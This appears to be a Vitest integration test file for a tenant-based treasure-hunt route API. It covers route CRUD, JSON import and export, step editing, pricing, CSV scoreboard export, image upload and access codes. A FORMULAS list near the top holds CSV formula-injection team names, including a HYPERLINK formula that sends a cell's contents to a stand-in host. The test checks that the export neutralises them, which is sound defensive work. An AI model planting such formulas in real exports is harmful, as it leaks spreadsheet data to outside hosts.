import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { games, gameSteps, liveHeartbeat, routes, steps } from '../src/db/schema';
import { createTestApp, type TestApp } from './helpers/app';
import { rawDb, TEST_DB } from './helpers/database';
import { call, makeTenant, makeUser, signIn, sampleRouteText } from './helpers/factories';

/** Team names a spreadsheet would run as formulas. */
const FORMULAS = ['=HYPERLINK("http://x.test?"&B2)', '+1', '-1', '@SUM(1)', '\tTab', '\rCr'];

const form = (overrides: Record<string, unknown> = {}) => ({
  title: 'Giro dei Musei',
  slug: null,
  description: null,
  access_type: 'free',
  route_type: 'progressive',
  geolocation_enabled: true,
  time_limit_enabled: false,
  time_limit_hours: 0,
  time_limit_minutes: 0,
  date_start: null,
  date_end: null,
  ...overrides,
});

describe(`route management on ${TEST_DB}`, () => {
  let t: TestApp;
  let cookie: string;
  let slug: string;
  let tenantId: string;
  const api = (
    method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE',
    path: string,
    payload?: unknown,
  ) =>
    call(t.app, cookie, {
      method,
      url: `/api/tenants/${slug}${path}`,
      ...(payload === undefined ? {} : { payload: payload as object }),
    });

  beforeAll(async () => {
    t = await createTestApp();
    const tenant = await makeTenant(t.database.db);
    slug = tenant.slug;
    tenantId = tenant.id;
    const manager = await makeUser(t.database.db, { role: 'game_manager', tenantId });
    cookie = await signIn(t.app, manager.email, manager.password);
  });
  afterAll(() => t.close());

  it('creates, edits, toggles and deletes a route', async () => {
    const created = await api(
      'POST',
      '/routes',
      form({
        access_type: 'paid',
        time_limit_enabled: true,
        time_limit_hours: 2,
        time_limit_minutes: 30,
      }),
    );
    expect(created.statusCode).toBe(201);
    const route = created.json<{ id: string }>();
    expect(route).toMatchObject({
      slug: 'giro-dei-musei',
      is_free: false,
      access_type: 'paid',
      is_active: true,
      time_limit_hours: 2,
      step_count: 0,
    });
    expect(
      (await api('POST', '/routes', form({ title: 'X', slug: 'Giro dei Musei' }))).statusCode,
    ).toBe(409);
    expect((await api('POST', '/routes', form({ time_limit_minutes: 60 }))).statusCode).toBe(400);

    const edited = await api(
      'PUT',
      `/routes/${route.id}`,
      form({ title: 'Musei', slug: 'musei', access_type: 'code' }),
    );
    expect(edited.json()).toMatchObject({
      title: 'Musei',
      slug: 'musei',
      is_free: true,
      access_type: 'code',
    });
    expect(
      (await api('PUT', `/routes/${route.id}`, form({ slug: '' }))).json<{
        error: { code: string };
      }>().error.code,
    ).toBe('slug_required');

    const off = await api('PATCH', `/routes/${route.id}/active`, { is_active: false });
    expect(off.json()).toMatchObject({ is_active: false });
    expect((await api('DELETE', `/routes/${route.id}`)).statusCode).toBe(204);
    expect((await api('DELETE', `/routes/${route.id}`)).statusCode).toBe(404);
  });

  it('imports the fixture, exports an equivalent document, and updates by slug on re-import', async () => {
    const json = await sampleRouteText();
    const first = await api('POST', '/routes/import', { json });
    expect(first.json()).toMatchObject({
      created: true,
      route: { slug: 'roma-centro-storico', step_count: 6 },
    });
    const id = first.json<{ route: { id: string } }>().route.id;

    const exported = (await api('GET', `/routes/${id}/export`)).json<
      Record<string, unknown> & { steps: Record<string, unknown>[] }
    >();
    const original = JSON.parse(json) as { steps: Record<string, unknown>[] };
    expect(exported).toMatchObject({
      id: 'roma-centro-storico',
      title: 'Roma: il cuore del centro storico',
    });
    expect(exported.steps.map((s) => [s.place, s.check_type, s.orientation, s.lat])).toEqual(
      original.steps.map((s) => [s.place, s.check_type, s.orientation, Number(s.lat)]),
    );
    expect(exported.steps[5]).toMatchObject({
      multiple: true,
      choices: original.steps[5]!.choices,
    });

    const again = await api('POST', '/routes/import', {
      json: JSON.stringify({
        ...exported,
        title: 'Roma (nuova)',
        steps: exported.steps.slice(0, 2),
      }),
    });
    expect(again.json()).toMatchObject({
      created: false,
      route: { id, title: 'Roma (nuova)', step_count: 2 },
    });
  });

  it('refuses invalid JSON with the reason and the step it is in, and changes nothing', async () => {
    const before = await rawDb(t.database.db)
      .select()
      .from(routes)
      .where(eq(routes.tenant_id, tenantId));
    const cases: [string, object][] = [
      [JSON.stringify({ title: 'x', steps: [] }), { issue: 'id_missing' }],
      [JSON.stringify({ id: 'x', steps: [] }), { issue: 'title_missing' }],
      [JSON.stringify({ id: 'x', title: 'X' }), { issue: 'steps_missing' }],
      [
        JSON.stringify({
          id: 'x',
          title: 'X',
          steps: [
            {
              ord: 1,
              place: 'Pantheon',
              lat: 41.9,
              lng: 12.4,
              radius_m: 50,
              task: 't',
              check_type: 'choice',
              choices: [],
            },
          ],
        }),
        { issue: 'choices_empty', step: 1, place: 'Pantheon' },
      ],
      // Scoring that would break every try on the step (points the database cannot hold).
      [
        JSON.stringify({
          id: 'x',
          title: 'X',
          steps: [
            {
              ord: 1,
              place: 'Pantheon',
              lat: 41.9,
              lng: 12.4,
              radius_m: 50,
              task: 't',
              check_type: 'text',
              check_answer: 'a',
              scoring: { attempt_award: { first_try: 1e12 } },
            },
          ],
        }),
        {
          issue: 'scoring_range',
          step: 1,
          place: 'Pantheon',
          path: 'attempt_award.first_try',
          min: -1000,
          max: 1000,
        },
      ],
    ];
    for (const [json, issue] of cases) {
      const res = await api('POST', '/routes/import', { json });
      expect(res.statusCode).toBe(400);
      expect(res.json()).toMatchObject({ error: { code: 'route_json_invalid', params: issue } });
    }
    expect(
      await rawDb(t.database.db).select().from(routes).where(eq(routes.tenant_id, tenantId)),
    ).toEqual(before);
  });

  it('replaces a route from JSON, and a replace that fails half-way leaves it untouched', async () => {
    const { route } = (
      await api('POST', '/routes/import', {
        json: JSON.stringify({
          id: 'da-sostituire',
          title: 'Vecchio',
          steps: [{ place: 'A', lat: 1, lng: 1, radius_m: 10, task: 't', check_type: 'photo' }],
        }),
      })
    ).json<{ route: { id: string } }>();
    await api('POST', '/routes/import', {
      json: JSON.stringify({ id: 'occupato', title: 'Altro', steps: [] }),
    });
    const stepsBefore = await rawDb(t.database.db)
      .select()
      .from(steps)
      .where(eq(steps.route_id, route.id));

    // The steps are rewritten first, then the slug clashes: the transaction must undo both.
    const clash = await api('PUT', `/routes/${route.id}/json`, {
      json: JSON.stringify({
        id: 'occupato',
        title: 'Nuovo',
        steps: [
          {
            place: 'B',
            lat: 2,
            lng: 2,
            radius_m: 20,
            task: 'u',
            check_type: 'text',
            check_answer: 'x',
          },
          { place: 'C', lat: 3, lng: 3, radius_m: 30, task: 'v', check_type: 'photo' },
        ],
      }),
    });
    expect(clash.statusCode).toBe(409);
    expect(
      await rawDb(t.database.db).select().from(steps).where(eq(steps.route_id, route.id)),
    ).toEqual(stepsBefore);
    const [unchanged] = await rawDb(t.database.db)
      .select()
      .from(routes)
      .where(eq(routes.id, route.id));
    expect(unchanged).toMatchObject({ slug: 'da-sostituire', title: 'Vecchio' });

    const ok = await api('PUT', `/routes/${route.id}/json`, {
      json: JSON.stringify({
        id: 'sostituito',
        title: 'Nuovo',
        steps: [
          {
            place: 'B',
            lat: 2,
            lng: 2,
            radius_m: 20,
            task: 'u',
            check_type: 'qr',
            check_answer: 'QR-1',
          },
        ],
      }),
    });
    expect(ok.json()).toMatchObject({
      created: false,
      route: { id: route.id, slug: 'sostituito', title: 'Nuovo', step_count: 1 },
    });
  });

  it('saves the step editor list in place, so running games keep their progress', async () => {
    const { route } = (
      await api('POST', '/routes/import', {
        json: await sampleRouteText().then((j) => j.replace('roma-centro-storico', 'editor')),
      })
    ).json<{ route: { id: string } }>();
    const list = (await api('GET', `/routes/${route.id}/steps`)).json<{
      steps: Record<string, unknown>[];
    }>().steps;
    expect(list[0]).toMatchObject({ ord: 1, place: 'Fontana di Trevi', check_answer: '1762' });
    const [game] = await rawDb(t.database.db)
      .insert(games)
      .values({ tenant_id: tenantId, route_id: route.id, team_name: 'A', owner_email: 'a@x.it' })
      .returning();
    await rawDb(t.database.db)
      .insert(gameSteps)
      .values({ game_id: game!.id, step_id: String(list[1]!.id), status: 'ok', points: 9 });

    // Move step 2 first, drop the last, add a new one; orientation as a name, like an import.
    const edited: Record<string, unknown>[] = [list[1], list[0], ...list.slice(2, 5)].map((s) => ({
      ...s,
      orientation: s!.orientation_deg === 0 ? 'nord' : null,
    }));
    edited.push({
      place: 'Nuova tappa',
      lat: '41.9',
      lng: 12.48,
      radius_m: 40,
      task: 'Foto',
      check_type: 'photo',
      orientation: 'ovest',
    });
    const saved = await api('PUT', `/routes/${route.id}/steps`, { steps: edited });
    expect(saved.statusCode).toBe(200);
    const savedSteps = saved.json<{
      steps: { id: string; ord: number; place: string; orientation_deg: number | null }[];
    }>().steps;
    expect(savedSteps.map((s) => [s.ord, s.place])).toEqual([
      [1, 'Pantheon'],
      [2, 'Fontana di Trevi'],
      [3, 'Piazza Navona'],
      [4, "Campo de' Fiori"],
      [5, 'Largo di Torre Argentina'],
      [6, 'Nuova tappa'],
    ]);
    expect(savedSteps[0]!.id).toBe(list[1]!.id);
    expect(savedSteps[5]!.orientation_deg).toBe(270);
    const [progress] = await rawDb(t.database.db)
      .select()
      .from(gameSteps)
      .where(eq(gameSteps.game_id, game!.id));
    expect(progress).toMatchObject({ step_id: list[1]!.id, points: 9 });

    const bad = await api('PUT', `/routes/${route.id}/steps`, {
      steps: [
        {
          place: 'Pantheon',
          lat: 41.9,
          lng: 12.4,
          radius_m: 50,
          task: 't',
          check_type: 'choice',
          choices: 'non json',
        },
      ],
    });
    expect(bad.json()).toMatchObject({
      error: {
        code: 'route_json_invalid',
        params: { issue: 'choices_not_json', step: 1, place: 'Pantheon' },
      },
    });
    expect(
      (await api('GET', `/routes/${route.id}/steps`)).json<{ steps: unknown[] }>().steps,
    ).toHaveLength(6);
  });

  it('adds and deletes price list rows with the defaults and null decimals', async () => {
    const { id } = (
      await api('POST', '/routes', form({ title: 'A pagamento', access_type: 'paid' }))
    ).json<{ id: string }>();
    const added = await api('POST', `/routes/${id}/pricing`, {
      date_from: '2026-12-01',
      time_from: '00:00',
      date_to: '2026-12-31',
      time_to: '23:59',
      cost_euro: 12.5,
      discount_code: '',
      discount_type: 'percentage',
      discount_percentage: null,
      discount_price: null,
    });
    expect(added.statusCode).toBe(201);
    expect(added.json()).toMatchObject({
      cost_euro: '12.50',
      time_from: '00:00',
      time_to: '23:59',
      discount_code: null,
      discount_percentage: null,
      discount_price: null,
      is_priority: 0,
    });
    expect(
      (
        await api('POST', `/routes/${id}/pricing`, {
          date_from: '2026-12-31',
          time_from: '00:00',
          date_to: '2026-12-01',
          time_to: '23:59',
          cost_euro: 1,
          discount_code: null,
          discount_type: 'fixed',
          discount_percentage: null,
          discount_price: null,
        })
      ).statusCode,
    ).toBe(400);
    expect(
      (
        await api('POST', `/routes/${id}/pricing`, {
          date_from: '2026-12-01',
          time_from: '00:00',
          date_to: '2026-12-31',
          time_to: '23:59',
          cost_euro: 1.005,
          discount_code: null,
          discount_type: 'fixed',
          discount_percentage: null,
          discount_price: null,
        })
      ).statusCode,
    ).toBe(400);
    const { pricing } = (await api('GET', `/routes/${id}/pricing`)).json<{
      pricing: { id: string }[];
    }>();
    expect(pricing).toHaveLength(1);
    expect((await api('DELETE', `/routes/${id}/pricing/${pricing[0]!.id}`)).statusCode).toBe(204);
    expect((await api('GET', `/routes/${id}/pricing`)).json()).toEqual({ pricing: [] });
  });

  it('exports the scoreboard as CSV and resets it', async () => {
    const { id } = (await api('POST', '/routes', form({ title: 'Classifica' }))).json<{
      id: string;
    }>();
    const empty = await api('GET', `/routes/${id}/scoreboard.csv`);
    expect(empty.statusCode).toBe(404);
    expect(empty.json<{ error: { code: string } }>().error.code).toBe('scoreboard_empty');
    await rawDb(t.database.db)
      .insert(liveHeartbeat)
      .values([
        {
          tenant_id: tenantId,
          route_id: id,
          team_name: 'Lupi, "Grigi"',
          email: 'l@x.it',
          score: 30,
          progress: 3,
          total: 6,
        },
        {
          tenant_id: tenantId,
          route_id: id,
          team_name: 'Aquile',
          email: 'a@x.it',
          score: 45,
          progress: 5,
          total: 6,
        },
        // Spreadsheets run a cell that starts with = + - @ (or tab, CR) as a formula.
        ...FORMULAS.map((name, i) => ({
          tenant_id: tenantId,
          route_id: id,
          team_name: name,
          email: `f${i}@x.it`,
          score: 10 - i,
          progress: 0,
          total: 6,
        })),
      ]);
    const csv = await api('GET', `/routes/${id}/scoreboard.csv`);
    expect(csv.headers['content-disposition']).toMatch(
      new RegExp(`filename="${slug}-classifica-scoreboard-\\d{4}-\\d{2}-\\d{2}\\.csv"`),
    );
    const lines = csv.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toBe('Team Name,Email,Score,Progress,Total Steps,Last Seen,Time Zone');
    expect(lines[1]).toMatch(/^Aquile,a@x\.it,45,5,6,/);
    expect(lines[2]).toMatch(/^"Lupi, ""Grigi""",l@x\.it,30,3,6,/);
    // Each such name is exported as text: a quote in front, so no formula runs.
    const exported = parse<{ 'Team Name': string }>(csv.body.replace(/^\uFEFF/, ''), {
      columns: true,
    });
    expect(exported.slice(2).map((row) => row['Team Name'])).toEqual(
      FORMULAS.map((name) => `'${name}`),
    );
    expect((await api('DELETE', `/routes/${id}/scoreboard`)).json()).toEqual({
      entries_affected: 2 + FORMULAS.length,
    });
  });

  it('stores a route image checked by content, replacing the previous one', async () => {
    const { id } = (await api('POST', '/routes', form({ title: 'Con immagine' }))).json<{
      id: string;
    }>();
    const upload = async (body: Buffer) => {
      const boundary = 'b0undary';
      const payload = Buffer.concat([
        Buffer.from(
          `--${boundary}\r\nContent-Disposition: form-data; name="image"; filename="x.png"\r\nContent-Type: image/png\r\n\r\n`,
        ),
        body,
        Buffer.from(`\r\n--${boundary}--\r\n`),
      ]);
      return call(t.app, cookie, {
        method: 'POST',
        url: `/api/tenants/${slug}/routes/${id}/image`,
        payload,
        headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
      });
    };
    const png = await sharp({ create: { width: 20, height: 10, channels: 3, background: '#f00' } })
      .png()
      .toBuffer();
    const res = await upload(png);
    expect(res.statusCode).toBe(200);
    const url = res.json<{ image_url: string }>().image_url;
    expect(url).toMatch(new RegExp(`^/files/route-images/${tenantId}/${id}\\.png\\?v=\\d+$`));
    expect(
      (await t.app.inject({ method: 'GET', url: url.split('?')[0]! })).headers['content-type'],
    ).toBe('image/png');
    const webp = await sharp(png).webp().toBuffer();
    const second = (await upload(webp)).json<{ image_url: string }>().image_url;
    expect(second).toContain(`${id}.webp`);
    expect((await t.app.inject({ method: 'GET', url: url.split('?')[0]! })).statusCode).toBe(404);
    expect((await upload(Buffer.from('GIF89a not really'))).statusCode).toBe(415);
  });

  it("resets today's scoreboard of a tenant for the superadmin, keeping earlier days", async () => {
    const { id } = (await api('POST', '/routes', form({ title: 'Giornaliera' }))).json<{
      id: string;
    }>();
    const row = { tenant_id: tenantId, route_id: id, score: 1, progress: 1, total: 2 };
    await rawDb(t.database.db)
      .insert(liveHeartbeat)
      .values([
        { ...row, team_name: 'Oggi', email: 'oggi@x.it', last_seen: new Date() },
        {
          ...row,
          team_name: 'Ieri',
          email: 'ieri@x.it',
          last_seen: new Date(Date.now() - 2 * 24 * 3600 * 1000),
        },
      ]);
    const superadmin = await makeUser(t.database.db, { role: 'superadmin' });
    const superCookie = await signIn(t.app, superadmin.email, superadmin.password);
    const res = await call(t.app, superCookie, {
      method: 'POST',
      url: `/api/tenants/${slug}/scoreboard/daily-reset`,
    });
    expect(res.json()).toEqual({ entries_affected: 1 });
    const left = await rawDb(t.database.db)
      .select()
      .from(liveHeartbeat)
      .where(eq(liveHeartbeat.route_id, id));
    expect(left.map((r) => r.team_name)).toEqual(['Ieri']);
  });

  it('generates access codes for a code route, distinct and in the alphabet', async () => {
    const { id } = (
      await api('POST', '/routes', form({ title: 'Codici', access_type: 'code' }))
    ).json<{ id: string }>();
    const generated = await api('POST', `/routes/${id}/access-codes`, { count: 5 });
    expect(generated.statusCode).toBe(201);
    const codes = generated.json<{ codes: { code: string; is_used: boolean }[] }>().codes;
    expect(codes).toHaveLength(5);
    expect(new Set(codes.map((c) => c.code)).size).toBe(5);
    expect(codes.every((c) => /^[A-HJ-NP-Z2-9]{8}$/.test(c.code) && !c.is_used)).toBe(true);
    expect(
      (await api('GET', `/routes/${id}/access-codes`)).json<{ codes: unknown[] }>().codes,
    ).toHaveLength(5);
    const zero = await api('POST', `/routes/${id}/access-codes`, { count: 0 });
    expect(zero.json()).toMatchObject({
      error: { code: 'validation_failed', params: { fields: 'count' } },
    });
    const { id: freeId } = (await api('POST', '/routes', form({ title: 'Libera' }))).json<{
      id: string;
    }>();
    expect((await api('POST', `/routes/${freeId}/access-codes`, { count: 1 })).statusCode).toBe(
      409,
    );
  });
});
